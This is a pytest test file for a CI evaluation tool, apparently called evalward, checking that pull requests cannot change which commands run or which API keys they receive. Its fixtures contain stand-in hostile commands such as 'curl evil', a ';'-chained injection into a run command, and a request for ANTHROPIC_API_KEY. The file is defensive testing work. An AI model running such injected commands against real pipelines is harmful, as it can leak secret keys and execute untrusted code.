"""A pull request runs no command of its own: what is started, with which keys, only the base says."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from evalward.config import HarnessSuite, LoadedConfig, Suite
from evalward.config.model import Config
from evalward.github.base import BaseChoice
from evalward.github.sides import BaseAndHead, SideRules
from evalward.records.policy import Policy
from support.harnesses import config_of, harness_suite

BASE: dict[str, Any] = {
    "run": "inspect eval bot.py",
    "rerun": "inspect eval bot.py --log-dir {dir}",
    "env": ["GOOD_KEY"],
}
EVIL: dict[str, Any] = {"run": "curl evil", "rerun": "curl evil {dir}", "env": ["ANTHROPIC_API_KEY"], "shell": True}
COMMANDS = ("run", "rerun", "env", "shell", "run_timeout_s")


def side(*suites: HarnessSuite, base: bool = False) -> SideRules:
    config: Config = config_of(*suites) if suites else config_of(harness_suite("unused"))
    rules = SideRules(Policy(), None, config.providers, (None, None), "baseline.json")
    rules = replace(rules, harnesses={suite.name: suite for suite in suites})
    return replace(rules, file=lambda _: None) if base else rules


def sides(
    head: HarnessSuite, *base: HarnessSuite, proposed: bool = True, unprotected: bool = False, has_base: bool = True
) -> tuple[BaseAndHead, LoadedConfig]:
    """Both sides of a change to a base with these suites, and the head's configuration."""
    own = side(head)
    judging = own if unprotected or not has_base else side(*base, base=True)
    choice = BaseChoice("b" * 40 if has_base else None, "none", "")
    loaded = LoadedConfig(config_of(head), "evalward.yml", Path("/repo"), "sha256:0")
    return BaseAndHead(judging, own, unprotected=unprotected, base=choice, proposed=proposed), loaded


def commands(suite: Suite) -> dict[str, Any]:
    return {key: getattr(suite, key) for key in COMMANDS}


def applied(both: BaseAndHead, head: LoadedConfig) -> dict[str, Any]:
    (suite,) = both.applied(head).config.suites
    return commands(suite)


@pytest.mark.parametrize(
    "change",
    [
        EVIL,
        {**BASE, "env": ["GOOD_KEY", "ANTHROPIC_API_KEY"]},
        {**BASE, "run": "inspect eval bot.py; curl evil"},
        {**BASE, "rerun": "curl evil {dir}"},
        {**BASE, "shell": True},
        {**BASE, "run_timeout_s": 80_000},
        {},
        {"run": "curl evil"},
    ],
)
def test_whatever_a_pull_request_changes__the_bases_commands_are_run(change: dict[str, Any]) -> None:
    base = harness_suite(**BASE)
    both, head = sides(harness_suite(**change, results="other/*.json"), base)
    assert applied(both, head) == commands(base)
    assert both.withheld(head) == {}
    assert both.commands_edited
    (suite,) = both.applied(head).config.suites
    assert isinstance(suite, HarnessSuite)
    assert suite.results == ["other/*.json"]  # what is measured is the head's


def test_a_suite_that_it_renames_keeps_them() -> None:
    base = harness_suite("old", **BASE)
    both, head = sides(harness_suite("new", **EVIL, replaces="old"), base)
    assert applied(both, head) == commands(base)
    assert both.withheld(head) == {}


def test_one_of_the_same_name_counts_before_the_one_that_it_replaces() -> None:
    base = (harness_suite("old", run="old"), harness_suite("s", **BASE))
    both, head = sides(harness_suite(**EVIL, replaces="old"), *base)
    assert applied(both, head) == commands(base[1])


def test_a_suite_that_the_base_has_not__is_not_run_and_says_so() -> None:
    both, head = sides(harness_suite("new", **EVIL), harness_suite(**BASE))
    assert both.withheld(head) == {
        "new": "its commands come from the base's configuration, which has no suite of this name yet; they run after "
        "the merge"
    }
    assert applied(both, head) == {"run": None, "rerun": None, "env": [], "shell": False, "run_timeout_s": 3600}
    assert both.commands_edited


def test_one_whose_files_an_earlier_step_left_is_measured_all_the_same() -> None:
    both, head = sides(harness_suite("new"), harness_suite(**BASE))
    assert both.withheld(head) == {}
    assert not both.commands_edited
    both, head = sides(harness_suite("new", rerun="curl evil {dir}", env=["A_KEY"]), harness_suite(**BASE))
    assert both.withheld(head) == {}
    assert applied(both, head)["rerun"] is None


def test_a_run_that_is_added_to_a_suite_of_an_earlier_step_is_not_run__and_does_not_keep_it_from_being_measured() -> (
    None
):
    both, head = sides(harness_suite(**EVIL), harness_suite())
    assert both.withheld(head) == {}
    assert applied(both, head)["run"] is None


def test_what_it_leaves_alone_is_no_edit() -> None:
    both, head = sides(harness_suite(**BASE), harness_suite(**BASE))
    assert applied(both, head) == commands(harness_suite(**BASE))
    assert not both.commands_edited


def test_after_the_merge_the_heads_are_run() -> None:
    """A push is no proposal: what it brings has been merged."""
    new = harness_suite("new", **EVIL)
    both, head = sides(new, harness_suite(**BASE), proposed=False)
    assert applied(both, head) == commands(new)
    assert both.withheld(head) == {}


def test_without_a_base_the_working_tree_says_it() -> None:
    both, head = sides(harness_suite(**BASE), proposed=False, has_base=False)
    assert applied(both, head) == commands(harness_suite(**BASE))


@pytest.mark.parametrize("proposed", [True, False])
def test_a_first_configuration_gets_no_keys(proposed: bool) -> None:
    """As with hosts: what nothing judges yet may not send keys anywhere."""
    both, head = sides(harness_suite(**EVIL), unprotected=True, proposed=proposed)
    assert both.withheld(head) == {
        "s": "no configuration of the base names the keys that its commands may have; they run after the merge"
    }
    assert applied(both, head)["run"] is None
    free = harness_suite(run="inspect eval bot.py --model mockllm/model")
    both, head = sides(free, unprotected=True, proposed=proposed)
    assert both.withheld(head) == {}
    assert applied(both, head) == commands(free)


def test_keys_that_count_are_hidden() -> None:
    both, _ = sides(harness_suite(**EVIL), harness_suite(**BASE))
    assert "GOOD_KEY" in both.key_names
